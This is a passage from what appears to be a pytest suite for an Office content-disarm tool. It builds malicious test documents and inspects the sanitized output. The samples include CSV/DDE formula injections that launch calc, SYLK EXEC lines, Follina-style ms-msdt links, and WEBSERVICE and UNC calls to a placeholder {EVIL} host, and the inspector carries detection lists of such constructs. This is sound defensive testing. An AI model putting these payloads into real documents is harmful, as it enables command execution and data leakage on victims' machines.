  <Row><Cell ss:Formula="=EXEC(&quot;calc.exe&quot;)"><Data ss:Type="Number">0</Data></Cell></Row>
  <Row><Cell ss:Formula="=HALT()"><Data ss:Type="Number">0</Data></Cell></Row>
 </Table>
 <ConditionalFormatting xmlns="urn:schemas-microsoft-com:office:excel"><Range>R1C1</Range><Condition>
  <Value1>WEBSERVICE(&quot;http://{EVIL}/cf&quot;)</Value1><Format Style='color:red'/></Condition></ConditionalFormatting>
 <DataValidation xmlns="urn:schemas-microsoft-com:office:excel"><Range>R2C1</Range><Type>List</Type>
  <Value>WEBSERVICE(&quot;http://{EVIL}/list&quot;)</Value></DataValidation>
 <WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Visible>SheetVeryHidden</Visible>
 </WorksheetOptions></Worksheet>
</Workbook>
""".encode()

HTML_XLS = f"""<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8">
<base href="file://///{EVIL}/share/"><link rel="File-List" href="{UNC}\\filelist.xml">
<script>new ActiveXObject("WScript.Shell").Run("calc")</script></head>
<body onload="alert(1)"><table>
<tr><td>{BENIGN}</td><td>12</td></tr>
<tr><td><a href="x.exe">relative to a share base</a></td><td><img src="{UNC}\\x.png"></td></tr>
<tr><td><a href="ms-msdt:/id PCWDiagnostic /skip force">msdt</a></td>
<td><a href="search-ms:query=x&amp;crumb=location:{UNC}">search</a></td></tr>
<tr><td x:fmla="=HYPERLINK(&quot;file://///{EVIL}/share/x.exe&quot;,&quot;f&quot;)">f</td>
<td x:fmla="=WEBSERVICE(&quot;http://{EVIL}/&quot;)">w</td></tr>
<tr><td>=cmd|' /C calc'!A0</td><td><iframe src="http://{EVIL}/"></iframe></td></tr>
<tr><td><a href="{UNC}\\x.exe">share</a></td><td><a href="//{EVIL}/share/x.exe">scheme-relative</a></td></tr>
</table></body></html>""".encode()


# ============================================================================ text, CSV, TSV
CSV_INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(cmd|' /C calc'!A0)",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1\r\n=2+2",  # a quoted cell holding a line break: Excel keeps it one cell
]


def csv_quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\r\n') else value


CSV_ATTACK = ("品名,数量,備考\r\nりんご,12,ok\r\n" + "".join(
    f"row{i},{csv_quote(cell)},{csv_quote(cell)}\r\n" for i, cell in enumerate(CSV_INJECTIONS)
) + "-1200,a,b\r\n").encode("utf-8-sig")
TEXT_ATTACKS: dict[str, bytes] = {
    "inject.csv": CSV_ATTACK,
    "inject_sjis.csv": CSV_ATTACK.decode("utf-8-sig").replace("＝", "=").encode("cp932"),
    "inject.tsv": CSV_ATTACK.decode("utf-8-sig").replace(",", "\t").encode("utf-8"),
    "inject_utf16.csv": ("\ufeff" + CSV_ATTACK.decode("utf-8-sig").replace(",", "\t")).encode("utf-16-le"),
    # a bare CR ends a row for Excel: the cell after it starts a new row
    "bare_cr.csv": b"a,b\r=cmd|' /C calc'!A0,c\r+1+cmd|' /C calc'!A0\r",
    "sep_line.csv": b"sep=;\r\na;=cmd|' /C calc'!A0\r\n",
    "sylk.xls": b"ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC(\"calc.exe\")\r\nC;Y2;X1;K0;ECALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)\r\nE\r\n",
    "sylk_named.csv": b"ID;PWXL;N;E\r\nC;Y1;X1;K0;EEXEC(\"calc.exe\")\r\nE\r\n",
    "html_named.csv": f"<html><body><table><tr><td>{BENIGN}</td></tr><tr><td>=cmd|' /C calc'!A0</td></tr>"
    f"<tr><td><img src=\"{UNC}\\x.png\"></td></tr></table><script>alert(1)</script></body></html>".encode(),
    "rtf_named.csv": rtf_doc(field("DDEAUTO cmd \"/c calc\"")),
    # control and bidi characters go, and a cell they started must still be judged by what is left
    "control_prefix.csv": ("品名,数量,備考\r\n" + "りんご,12,産地直送\r\n" * 30 + "".join(
        f"x,{c}=cmd|' /C calc'!A0,y\r\n" for c in ("\x01", "\x1b", "\x7f", "\x85", "\u202e", "\u2066")
    )).encode("utf-8-sig"),
    # A quoted cell that holds a line break and a formula, in UTF-8 (no BOM) and in EUC-JP: its
    # last character ends in a byte Shift_JIS takes for a lead byte (あ = E3 81 82; む = A4 E0),
    # so a Japanese Windows program reading it byte-wise as CP932 swallows the closing quote
    # with it, and =cmd starts a row of its own
    "utf8_quote_shift.csv": '"あ""\r\n=cmd|\' /C calc\'!A0\r\n",x\r\n'.encode(),
    "eucjp_quote_shift.csv": '"住民票の写しを申し込む""\r\n=cmd|\' /C calc\'!A0\r\n",備考\r\nりんご,12\r\n'.encode("euc-jp"),
}


# ============================================================================ what must come out
def libreoffice(work: Path, sources: dict[str, bytes], target: str) -> dict[str, bytes]:
    """Convert several sources with one LibreOffice start (its own profile under ``work``)."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed (make test installs it)"
    folder = work / f"lo-{target.split(':')[0]}-{len(list(work.iterdir()))}"
    folder.mkdir()
    for name, data in sources.items():
        (folder / name).write_bytes(data)
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{work}/lo-profile", "--convert-to", target,
         "--outdir", str(folder / "out"), *[str(folder / n) for n in sources]],
        check=True, capture_output=True, timeout=240,
    )
    suffix = target.split(":")[0]
    return {name: (folder / "out" / (Path(name).stem + "." + suffix)).read_bytes() for name in sources}


def saved(document: object) -> bytes:
    """What python-docx or openpyxl writes for a document, as bytes."""
    out = io.BytesIO()
    document.save(out)  # type: ignore[attr-defined]
    return out.getvalue()


def docx_with_table() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("令和6年度 備品一覧")
    table = document.add_table(rows=0, cols=2)
    for item, count in [("品名", "数量"), ("電気柵", "3"), ("看板", "12")]:
        cells = table.add_row().cells
        cells[0].text, cells[1].text = item, count
    return saved(document)


def xlsx_with_chart() -> bytes:
    from openpyxl.chart import BarChart, Reference

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "予算"
    for row in [("月", "件数"), ("4月", 31), ("5月", 47), ("6月", 52)]:
        sheet.append(row)
    chart = BarChart()
    chart.title = "相談件数"
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=4), titles_from_data=True)
    chart.set_categories(Reference(sheet, min_col=1, min_row=2, max_row=4))
    sheet.add_chart(chart, "D2")
    return saved(workbook)


ENCRYPTING_MODULE = """<?xml version="1.0" encoding="UTF-8"?>
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">
Sub EncryptOne(source As String, target As String, filterName As String, secret As String)
  Dim opening(0) As New com.sun.star.beans.PropertyValue
  opening(0).Name = "Hidden" : opening(0).Value = True
  book = StarDesktop.loadComponentFromURL(ConvertToURL(source), "_blank", 0, opening())
  Dim storing(1) As New com.sun.star.beans.PropertyValue
  storing(0).Name = "FilterName" : storing(0).Value = filterName
  storing(1).Name = "Password" : storing(1).Value = secret
  book.storeToURL(ConvertToURL(target), storing())
  book.close(True)
End Sub

Sub Encrypt(jobs As String)
  For Each job In Split(jobs, "|")
    part = Split(job, ";")
    EncryptOne(part(0), part(1), part(2), part(3))
  Next
End Sub
</script:module>"""


def libreoffice_encrypted(work: Path, jobs: dict[str, tuple[bytes, str, str, str]]) -> dict[str, bytes]:
    """Legacy files encrypted by LibreOffice itself (RC4 CryptoAPI, as Office 2003 and later
    write them): name -> (source, its suffix, filter, password). A Basic macro in the build
    profile does them all in one start; the profile exists once ``libreoffice`` has run."""
    module = work / "lo-profile" / "user" / "basic" / "Standard" / "Module1.xba"
    assert module.exists(), "run libreoffice() first: it makes the profile"
    module.write_text(ENCRYPTING_MODULE, encoding="utf-8")
    folder = work / "encrypted"
    folder.mkdir()
    spec = []
    for name, (source, suffix, filter_name, password) in jobs.items():
        (folder / f"source-{name}{suffix}").write_bytes(source)
        spec.append(f"{folder}/source-{name}{suffix};{folder}/{name};{filter_name};{password}")
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is needed (make test installs it)"
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{work}/lo-profile",
                    f'macro:///Standard.Module1.Encrypt("{"|".join(spec)}")'], check=True, capture_output=True,
                   timeout=240)
    return {name: (folder / name).read_bytes() for name in jobs}


def velvet_encrypted(data: bytes) -> bytes:
    """An ECMA-376 encrypted package under Excel's well-known default password."""
    import msoffcrypto

    source, out = io.BytesIO(data), io.BytesIO()
    msoffcrypto.OfficeFile(source).encrypt("VelvetSweatshop", out)
    return out.getvalue()


def flag_encrypted_doc(doc: bytes) -> bytes:
    """A real .doc with the FIB's fEncrypted bit set (MS-DOC 2.5.2): what an encrypted one says."""
    data = bytearray(doc)
    at = data.find(b"\xec\xa5")  # wIdent of the FIB, at the start of the WordDocument stream
    assert at > 0
    data[at + 0x0B] |= 0x01  # fEncrypted is bit 8 of the flags word at 0x0A
    return bytes(data)


def build_legacy_inputs(work: Path) -> dict[str, bytes]:
    """Every file that needs LibreOffice on cdr's side, built with one LibreOffice start per
    target format."""
    from tests import office_builders as ob  # a real VBA project: xlwings' quickstart, by Excel

    xlsm = ob.xlwings_file("quickstart.xlsm")
    odt, ods, odp = odt_active(), ods_active(), odp_active()
    xls = libreoffice(work, {"vba.xlsm": xlsm, "active.ods": ods}, "xls:MS Excel 97")
    docs = libreoffice(work, {"active.odt": odt, "fields.rtf": RTF_FIELDS, "table.docx": docx_with_table()},
                       "doc:MS Word 97")
    encrypted = libreoffice_encrypted(work, {
        "velvet.xls": (ods, ".ods", "MS Excel 97", "VelvetSweatshop"),  # opens without asking
        "secret.xls": (ods, ".ods", "MS Excel 97", PASSWORD),
        "secret.doc": (odt, ".odt", "MS Word 97", PASSWORD),
    })
    return {
        **encrypted,
        "rtf_fields.rtf": RTF_FIELDS,
        "rtf_objects.rtf": RTF_OBJECTS,
        "rtf_template.rtf": RTF_TEMPLATE,
        "odt_active.odt": odt,
        "odt_ole.odt": odt_embedded_ole(xls["vba.xlsm"]),
        "ods_active.ods": ods,
        "odp_active.odp": odp,
        "doc_active.doc": docs["active.odt"],
        "doc_fields.doc": docs["fields.rtf"],
        "dot_active.dot": libreoffice(work, {"active.odt": odt}, "dot:MS Word 97 Vorlage")["active.odt"],
        "xls_active.xls": xls["active.ods"],
        "xls_vba.xls": xls["vba.xlsm"],
        "xlt_active.xlt": libreoffice(work, {"active.ods": ods}, "xlt:MS Excel 97 Vorlage/Template")["active.ods"],
        "pps_active.pps": libreoffice(work, {"active.odp": odp}, "pps:MS PowerPoint 97 AutoPlay")["active.odp"],
        "xml2003.xls": XML_2003,
        "html_table.xls": HTML_XLS,
        "xls_is_mht.xls": MHT,
        "xls_xlm_macrosheet.xls": compound_file("Workbook", xlm_workbook_stream()),
        "rtf_is_doc.rtf": docs["active.odt"],  # Word opens a .doc named .rtf, and the reverse
        "xls_is_doc.xls": docs["active.odt"],
        "doc_encrypted_flag.doc": flag_encrypted_doc(docs["table.docx"]),
        # benign: their content must survive
        "benign_table.doc": docs["table.docx"],
        "benign_chart.ods": libreoffice(work, {"chart.xlsx": xlsx_with_chart()}, "ods")["chart.xlsx"],
        "benign_ja.rtf": rtf_doc("\\trowd\\cellx2000\\cellx4000\\intbl " + rtf_text("品名") + "\\cell "
                                 + rtf_text("数量") + "\\cell\\row\\pard " + rtf_text("住民票の写し交付申請")),
    }


# MIME HTML, which Word and Excel open whatever the name says (Follina's and CVE-2021-40444's carriers)
MHT = (
    'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
    'Content-Type: text/html; charset="utf-8"\r\nContent-Location: file:///C:/x.htm\r\n\r\n'
    f"<html><body><p>{BENIGN}</p><script>location.href='ms-msdt:/id PCWDiagnostic /skip force'</script>"
    "<table><tr><td>=cmd|' /C calc'!A0</td></tr></table></body></html>\r\n--b--\r\n"
).encode()
# Word 2003 XML with an ActiveMime macro container and a DDE field: Word opens it as a .doc
WORD_2003_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<?mso-application progid="Word.Document"?>\n'
    '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes">'
    '<w:docSuppData><w:binData w:name="editdata.mso">QWN0aXZlTWltZQAAAfA=</w:binData></w:docSuppData>'
    f"<w:body><w:p><w:r><w:t>{BENIGN}</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
    f'<w:r><w:instrText>DDEAUTO {CMD} "/c calc"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:wordDocument>'
).encode()


def build_quick_inputs() -> dict[str, bytes]:
    """Files cdr settles without LibreOffice: text, CSV, extension lies, encrypted packages."""
    from tests import office_builders as ob

    return {
        **TEXT_ATTACKS,
        "doc_is_rtf.doc": RTF_OBJECTS,
        "doc_is_html.doc": (f'<html><head><script>location.href="ms-msdt:/id PCWDiagnostic /skip force";</script>'
                            f"</head><body><p>{BENIGN}</p></body></html>").encode(),
        "velvet_xlsm.xls": velvet_encrypted(ob.xlwings_file("quickstart.xlsm")),
        "xls_is_xlsm.xls": ob.xlwings_file("quickstart.xlsm"),
        "doc_is_mht.doc": MHT,
        "doc_is_wordxml.doc": WORD_2003_XML,
        "wordxml.xml": WORD_2003_XML,
        "benign_sjis.csv": "品名,数量,備考\r\nりんご,12,産地直送\r\n".encode("cp932"),
    }


# ============================================================================ the inspector
# ECMA-376 Part 2 §9.3 relationships and Part 1's parts a document, a table or a show needs;
# nothing else may be in a released package, and only a hyperlink may point outside it
_OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELATIONSHIP_TYPES = {_OD + kind for kind in (
    "officeDocument extended-properties custom-properties styles settings fontTable numbering footnotes "
    "endnotes comments header footer theme image hyperlink webSettings worksheet sharedStrings drawing vmlDrawing "
    "chart slide slideLayout slideMaster notesSlide notesMaster presProps viewProps tableStyles"
).split()} | {"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"}
PART_NAMES = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(?:app|core|custom)\.xml"
    r"|word/(?:document|styles|settings|fontTable|numbering|footnotes|endnotes|comments|webSettings"
    r"|header\d+|footer\d+|theme/theme\d+)\.xml|word/_rels/[\w]+\.xml\.rels"
    r"|xl/(?:workbook|styles|sharedStrings|theme/theme\d+|worksheets/sheet\d+|drawings/drawing\d+"
    r"|charts/chart\d+|comments\d+)\.xml|xl/(?:worksheets/|drawings/|charts/)?_rels/\w+\.xml\.rels"
    r"|xl/drawings/vmlDrawing\d+\.vml"
    r"|ppt/(?:presentation|presProps|viewProps|tableStyles|theme/theme\d+"
    r"|(?:slides|slideLayouts|slideMasters|notesSlides|notesMasters)/\w+)\.xml"
    r"|ppt/(?:slides|slideLayouts|slideMasters|notesSlides|notesMasters/)?/?_rels/\w+\.xml\.rels"
    r"|(?:word|xl|ppt)/media/[\w.-]+\.(?:png|jpe?g|gif|bmp|tiff?)"
)
CONTENT_TYPE_WORDS = re.compile(r"macro|vba|activex|ole|externallink|connections|querytable|template|control|"
                                r"customui|keymap|emf|wmf|svg|html|mhtml|fontobfuscated|binary", re.I)
# elements that embed, link, merge, run or name a template, in any namespace (ECMA-376 §17.15,
# §17.16, §18.2, §19.3, VML and the Office 2006 extensions)
FORBIDDEN_ELEMENTS = set(
    """attachedTemplate mailMerge docVars docVar OLEObject oleObject oleObjects control controls
    objectEmbed objectLink ddeLink externalReference externalReferences externalBook altChunk subDoc
    frameset frame webPublishItems oleLink sndAc snd stSnd wavAudioFile audioFile videoFile quickTimeFile
    oleObj embed dataModelExt HyperlinkBase""".split()
)
# a cell note is the one thing Excel keeps in VML (ECMA-376 Part 4 §19, §20): a text box shape
# and its anchor; no pictures, OLE, controls, macros, links or event scripts
VML_ELEMENTS = set(
    """xml shapelayout idmap shapetype stroke path shape shadow fill textbox div font span p br ClientData
    MoveWithCells SizeWithCells Anchor AutoFill TextVAlign TextHAlign Row Column Visible Locked""".split()
)
LIVE_SCHEMES = re.compile(r"^\s*(?:file:|javascript:|vbscript:|ms-[\w-]+:|search-ms:|search:|vnd\.sun\.star|"
                          r"macro:|shell:|\\\\|//|\.\.|[a-z]:[\\/])", re.I)
HARMLESS_FIELDS = set(
    """PAGE NUMPAGES SECTIONPAGES SECTION DATE TIME CREATEDATE SAVEDATE PRINTDATE TOC TOA TC XE INDEX REF
    PAGEREF NOTEREF SEQ STYLEREF TITLE AUTHOR SUBJECT KEYWORDS COMMENTS LASTSAVEDBY NUMWORDS NUMCHARS
    LISTNUM AUTONUM AUTONUMLGL AUTONUMOUT SYMBOL EQ ADVANCE FORMTEXT FORMCHECKBOX FORMDROPDOWN BIBLIOGRAPHY
    CITATION DOCPROPERTY SET IF COMPARE = FILLIN ASK USERNAME USERINITIALS MERGEFIELD""".split()
)
HARMLESS_FUNCTIONS = set(
    """SUM AVERAGE COUNT COUNTA COUNTBLANK MIN MAX IF IFERROR AND OR NOT ROUND ROUNDUP ROUNDDOWN NA TRUE
    FALSE TODAY NOW VLOOKUP HLOOKUP INDEX MATCH TEXT LEN LEFT RIGHT MID CONCATENATE ABS INT MOD SUMIF
    COUNTIF SUMPRODUCT DATE YEAR MONTH DAY HOUR MINUTE SECOND WEEKDAY UPPER LOWER TRIM VALUE ISBLANK
    ISERROR ISNUMBER PRODUCT RANK""".split()
)
AUTO_NAMES = re.compile(r"(?i)^(?:_xlnm\.)?auto_(?:open|close|activate|deactivate)|^_xlnm\.(?!print_area|"
                        r"print_titles|_filterdatabase|criteria|extract)")


def local(name: str) -> str:
    return etree.QName(name).localname


def field_problems(root: etree._Element) -> list[str]:
    """Judge every field instruction, simple or complex, nested or split across runs."""
    problems, stack = [], []
    texts = [e.get(f"{{{W}}}instr", "") for e in root.iter(f"{{{W}}}fldSimple")]
    for element in root.iter(f"{{{W}}}fldChar", f"{{{W}}}instrText"):
        if local(element.tag) == "instrText":
            if stack:
                stack[-1] += element.text or ""
            else:
                texts.append(element.text or "")  # an instruction outside any field: judged all the same
            continue
        kind = element.get(f"{{{W}}}fldCharType")
        if kind == "begin":
            stack.append("")
        elif kind == "end" and stack:
            texts.append(stack.pop())
    texts += stack  # fields never ended
    for text in texts:
        words = text.split()
        keyword = words[0].upper() if words else ""
        if keyword == "HYPERLINK":
            target = next((w.strip('"') for w in words[1:] if not w.startswith("\\")), "")
            anchor_only = "\\l" in words and not target.startswith(("http", "mailto"))
            if not (re.match(r"(?i)(https?://|mailto:)", target) or anchor_only) or LIVE_SCHEMES.search(target):
                problems.append(f"field {text!r}")
        elif keyword not in HARMLESS_FIELDS or re.search(r"(?i)dde|include|import|link|quote|macro|\\\\|file:",
                                                        text):
            problems.append(f"field {text!r}")
    return problems


def formula_problems(formula: str) -> list[str]:
    problems = []
    if "|" in formula or "[" in formula or "\\\\" in formula or "file:" in formula.lower():
        problems.append(f"formula reaches out: {formula!r}")
    for name in re.findall(r"([A-Za-z_][A-Za-z0-9._]*)\s*\(", formula):
        if name.upper() == "HYPERLINK":
            target = re.search(r'HYPERLINK\(\s*"([^"]*)"\s*[,)]', formula, re.I)
            if not target or not re.match(r"(?i)https?://|mailto:|#", target.group(1)):
                problems.append(f"HYPERLINK not to one literal web address: {formula!r}")
        elif name.upper() not in HARMLESS_FUNCTIONS:
            problems.append(f"function {name}: {formula!r}")
    return problems


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def inspect_package(path: Path) -> list[str]:
    """Everything in a released OOXML package this inspector does not know to be harmless."""
    problems: list[str] = []
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        for name in names:
            if not PART_NAMES.fullmatch(name):
                problems.append(f"part {name}")
        types = etree.fromstring(package.read("[Content_Types].xml"))
        for entry in types:
            if CONTENT_TYPE_WORDS.search(entry.get("ContentType", "")):
                problems.append(f"content type {entry.get('ContentType')}")
        for name in names:
            if not name.endswith((".xml", ".rels", ".vml")):
                continue
            root = etree.fromstring(package.read(name), etree.XMLParser(resolve_entities=False, no_network=True))
            if name.endswith(".vml"):
                problems += vml_problems(name, root)
                continue
            if name.endswith(".rels"):
                for rel in root:
                    kind, target = rel.get("Type", ""), rel.get("Target", "")
                    if kind not in RELATIONSHIP_TYPES:
                        problems.append(f"{name}: relationship {kind}")
                    external = rel.get("TargetMode") == "External"
                    if external and not (kind.endswith("/hyperlink") and re.match(r"(?i)(https?://|mailto:)", target)):
                        problems.append(f"{name}: external {kind.rsplit('/', 1)[-1]} -> {target}")
                    if not external and re.match(r"(?i)[a-z][a-z0-9+.-]*:|/|\\", target.lstrip("./")):
                        problems.append(f"{name}: internal target outside the package {target}")
                continue
            problems += field_problems(root)
            for element in root.iter():
                if not isinstance(element.tag, str):
                    continue
                tag = local(element.tag)
                if tag in FORBIDDEN_ELEMENTS:
                    problems.append(f"{name}: element {tag}")
                for attribute, value in element.attrib.items():
                    attr = local(attribute)
                    if attr in ("macro", "onAction", "fmlaMacro") and value:
                        problems.append(f"{name}: {attr}={value!r}")
                    if attr == "action" and value and not re.match(
                        r"ppaction://(?:hlinksldjump|hlinkshowjump\?jump=\w+|noaction)$", value
                    ):
                        problems.append(f"{name}: action {value!r}")
                    if attribute == f"{{{R_NS}}}link":
                        problems.append(f"{name}: linked picture {tag}")
                    # absPath is where Excel last saved the book: it only anchors external
                    # references, which are refused on their own
                    if attr != "val" and tag != "absPath" and LIVE_SCHEMES.search(value) and not re.fullmatch(r"\.\./\w+/[\w.]+", value):
                        problems.append(f"{name}: {tag}@{attr}={value!r}")
                if tag in ("f", "formula", "formula1", "formula2") and element.text:
                    problems += formula_problems(element.text)
                if tag == "definedName":
                    if AUTO_NAMES.search(element.get("name", "")):
                        problems.append(f"defined name {element.get('name')}")
                    problems += formula_problems(element.text or "")
    problems += second_opinion(path)
    return problems


def vml_problems(name: str, root: etree._Element) -> list[str]:
    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = local(element.tag)
        if tag not in VML_ELEMENTS:
            problems.append(f"{name}: VML element {tag}")
        if tag == "ClientData" and element.get("ObjectType") != "Note":
            problems.append(f"{name}: VML control {element.get('ObjectType')}")
        for attribute in element.attrib:
            if local(attribute).lower() in ("href", "src", "action", "macro") or re.fullmatch(r"on\w+", local(attribute)):
                problems.append(f"{name}: VML {tag}@{local(attribute)}")
    return problems


def second_opinion(path: Path) -> list[str]:
    """oletools, which knows nothing of cdr: VBA/XLM anywhere, DDE links anywhere."""
    from oletools import msodde
    from oletools.olevba import VBA_Parser

    problems = []
    parser = VBA_Parser(str(path))
    try:
        if parser.detect_vba_macros() or parser.detect_xlm_macros():
            problems.append("olevba: macros")
    finally:
        parser.close()
    # msodde lists every field outside its own harmless list; a merge field is only a name
    # in brackets once the merge's data source is gone (the inspector refuses mailMerge)
    fields = msodde.process_file(str(path), msodde.FIELD_FILTER_BLACKLIST).splitlines()
    problems += [f"msodde: {line!r}" for line in fields if line.strip() and line.split()[0] != "MERGEFIELD"]
    return problems


def document_text(path: Path) -> str:
    """The text a person reads: every w:t, a:t and shared string or inline string, in order."""
    with zipfile.ZipFile(path) as package:
        parts = [n for n in package.namelist() if re.search(r"(document|sharedStrings|sheet\d+|slide\d+)\.xml$", n)]
        return "".join(
            t.text or "" for n in sorted(parts) for t in etree.fromstring(package.read(n)).iter()
            if isinstance(t.tag, str) and local(t.tag) in ("t", "v")
        )


FORMULA_START = re.compile(r"^[=+\-@＝＋－＠\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d,]*(?:\.\d+)?$")


def csv_text(data: bytes) -> str:
    """Decoded as Excel on a Japanese Windows decodes a CSV: by its BOM, else as CP932."""
    if data.startswith(b"\xef\xbb\xbf"):
        return data[3:].decode("utf-8")
    if data.startswith((b"\xff\xfe", b"\xfe\xff")):
        return data.decode("utf-16")
    return data.decode("cp932", errors="replace")


def live_cells(path: Path, text: str | None = None) -> list[str]:
    """Cells Excel would take for a formula: split by the name (.tsv and UTF-16 by tabs), a first
    sep= line obeyed as Excel obeys it; ``text`` is the file as read, by default its decoding."""
    data = path.read_bytes()
    text = csv_text(data) if text is None else text
    delimiter = "\t" if path.suffix == ".tsv" or data.startswith(b"\xff\xfe") else ","
    first, _, rest = text.partition("\n")
    if re.match(r"(?i)\ufeff?sep=(.)", first):
        delimiter, text = first[4], rest
    live = []
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        live += [cell for cell in row if FORMULA_START.match(cell.lstrip(" \u3000")) and not PLAIN_NUMBER.match(cell)]
    if data.lstrip(b"\xef\xbb\xbf")[:2].upper() == b"ID":
        live.append("SYLK header")
    return live


def mbcs_view(data: bytes) -> str:
    """A byte-wise reading of a BOM-less text as a Japanese Windows program written for
    multi-byte code pages reads it: a CP932 lead byte takes the next byte with it, whatever that
    byte is (the classic IsDBCSLeadByte loop). Used beside the strict decoding, not instead."""
    out, i = [], 0
    while i < len(data):
        byte = data[i]
        if (0x81 <= byte <= 0x9F or 0xE0 <= byte <= 0xFC) and i + 1 < len(data):
            out.append(data[i : i + 2].decode("cp932", errors="replace")[:1])
            i += 2
        else:
            out.append(bytes([byte]).decode("cp932", errors="replace"))
            i += 1
    return "".join(out)


# ============================================================================ the runs
LEGACY_NAMES = (
    "rtf_fields.rtf rtf_objects.rtf rtf_template.rtf odt_active.odt odt_ole.odt ods_active.ods odp_active.odp "
    "doc_active.doc doc_fields.doc dot_active.dot xls_active.xls xls_vba.xls xlt_active.xlt pps_active.pps "
    "xml2003.xls html_table.xls rtf_is_doc.rtf xls_is_doc.xls doc_encrypted_flag.doc velvet.xls secret.xls secret.doc xls_is_mht.xls xls_xlm_macrosheet.xls"
).split()
QUICK_NAMES = [*TEXT_ATTACKS, "doc_is_rtf.doc", "doc_is_html.doc", "velvet_xlsm.xls", "xls_is_xlsm.xls",
               "doc_is_mht.doc", "doc_is_wordxml.doc", "wordxml.xml"]
BENIGN_FILES = {  # name: what a person must still read in the released file
    "benign_table.doc": ("備品一覧", "品名", "数量", "電気柵", "看板", "12"),
    "benign_chart.ods": ("4月", "6月", "31", "52"),
    "benign_ja.rtf": ("品名", "数量", "住民票の写し交付申請"),
    "benign_sjis.csv": ("品名", "りんご", "産地直送"),
}
# what is known to cross today: name -> why (each is a strict xfail until cdr is fixed).
# Fixed: a BOM-less UTF-8 or EUC-JP CSV whose quoted cell ends in a character whose last byte
# is a CP932 lead byte (Excel on a Japanese Windows reads such a file as CP932 and may take the
# closing quote with it, so =cmd|' /C calc'!A0 started a row): such a CSV is now written as
# UTF-8 with a BOM, read by Excel as what cdr judged (utf8_quote_shift.csv, eucjp_quote_shift.csv).
CROSSINGS: dict[str, str] = {}
# msodde guesses a CSV's delimiter from its content; Excel on a Japanese Windows (the reading
# README promises) splits a .csv on commas whatever it holds, so there these cells are text
LOCALE_ONLY = {"sep_line.csv": "a;=cmd|' /C calc'!A0 is one text cell unless the list separator is ';'"}


@pytest.fixture(scope="module")
def legacy_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, dict[str, object]]]:
    work = tmp_path_factory.mktemp("legacy")
    (work / "build").mkdir()
    files = build_legacy_inputs(work / "build")
    assert set(files) == set(LEGACY_NAMES) | {n for n in BENIGN_FILES if not n.endswith(".csv")}
    return work, sanitize(work, files)  # the real CLI, as an operator runs it


@pytest.fixture(scope="module")
def legacy_results(legacy_run: tuple[Path, dict[str, dict[str, object]]]) -> dict[str, dict[str, object]]:
    return legacy_run[1]


@pytest.fixture(scope="module")
def quick_results(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, object]]:
    files = build_quick_inputs()
    assert set(files) == set(QUICK_NAMES) | {"benign_sjis.csv"}
    return sanitize(tmp_path_factory.mktemp("quick"), files)


def judge(result: dict[str, object]) -> list[str]:
    """Quarantine is a fine answer; a released file must pass the inspector (and not hang)."""
    assert int(str(result["duration_ms"])) < 120_000, result  # a hang is a finding too
    if result["verdict"] != "released":
        assert result["verdict"] == "quarantined" and result["reason"], result
        return []
    output = Path(str(result["output"]))
    assert not os.access(output, os.X_OK)
    if output.suffix in (".docx", ".xlsx", ".pptx", ".docm", ".xlsm", ".pptm", ".dotx", ".xltx", ".ppsx"):
        return inspect_package(output)
    if output.suffix in (".csv", ".tsv"):
        from oletools import msodde

        problems = [f"live cell {cell!r}" for cell in live_cells(output)]
        data = output.read_bytes()
        if not data.startswith((b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff")):
            problems += [f"live cell in a multi-byte reading {c!r}" for c in live_cells(output, mbcs_view(data))]
        with tempfile.TemporaryDirectory(prefix="atkoffice-") as folder:  # msodde reads UTF-8 only
            copy = Path(folder) / output.name
            copy.write_text(csv_text(data), encoding="utf-8", newline="")
            try:
                dde = msodde.process_csv(str(copy))
            except csv.Error:  # its delimiter sniffer gives up on a one-column file: no opinion
                dde = ""
        if output.name in LOCALE_ONLY:
            return problems  # this inspector's own reading (README's) still judges every cell
        return problems + ([f"msodde: {dde!r}"] if dde.strip() else [])
    if output.suffix == ".txt":
        return []
    return [f"released as {output.suffix}, which this inspector does not know"]


def cases(names: list[str], slow: bool) -> list[object]:
    marks = [pytest.mark.slow] if slow else []
    return [
